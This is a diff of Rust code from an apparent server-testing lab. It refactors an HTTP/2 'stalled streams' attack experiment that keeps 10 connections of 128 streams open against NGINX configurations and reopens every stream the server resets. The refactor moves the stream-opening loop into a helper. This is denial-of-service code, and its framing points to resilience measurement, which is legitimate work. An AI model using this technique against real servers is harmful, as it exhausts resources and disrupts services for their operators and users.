@@ -2,14 +2,12 @@
 
 use std::error::Error;
 use std::io;
-use std::time::Duration;
 
 use super::{NGINX, NGINX_LIMITED, SOFTCLOCK};
-use crate::lab::hostile::frames::{get_block, opening, request};
+use crate::lab::hostile::frames::{get_block, opening};
 use crate::lab::hostile::link::{Link, again_and_again};
 use crate::lab::hostile::subject::Subject;
 use crate::lab::hostile::table;
-use crate::lab::hostile::tally::Tally;
 use crate::lab::hostile::trial::{Case, Ground, LARGE};
 use crate::output::report::{Context, Experiment, Report};
 
@@ -48,9 +46,7 @@ fn run(context: &Context) -> Result<Report, Box<dyn Error>> {
     ];
     let case = |(name, subjects)| Case {
         name: format!("10 connections of 128 stalled streams, {name}"),
-        attack: Box::new(|against| {
-            again_and_again(against, |link| stall(link, against.tally));
-        }),
+        attack: Box::new(|against| again_and_again(against, stall)),
         threads: 10,
         units: "requests",
         subjects,
@@ -61,26 +57,14 @@ fn run(context: &Context) -> Result<Report, Box<dyn Error>> {
 }
 
 /// Keeps [`STREAMS`] streams open: opens another for each that the server resets.
-fn stall(link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
+fn stall(link: &mut Link<'_>) -> io::Result<()> {
     link.send(&opening(0))?;
     let block = get_block(LARGE, []);
-    let mut opened = 0;
-    while tally.goes_on() {
-        while opened < link.answers.ended + STREAMS {
-            let stream = u32::try_from(2 * opened + 1).map_err(io::Error::other)?;
-            link.send(&request(stream, &block))?;
-            tally.units.add(1);
-            opened += 1;
-        }
-        link.turn(LOOK_UP)?;
-    }
-    Ok(())
+    link.keep_open(STREAMS, &block)
 }
 
 /// Streams per connection; most servers allow 128.
 const STREAMS: u64 = 128;
-
-const LOOK_UP: Duration = Duration::from_millis(20);
 
 const NOTES: [&str; 1] = [
     "the file has 16 MB; a stream that the server resets is followed by another; the connections end with the attack",
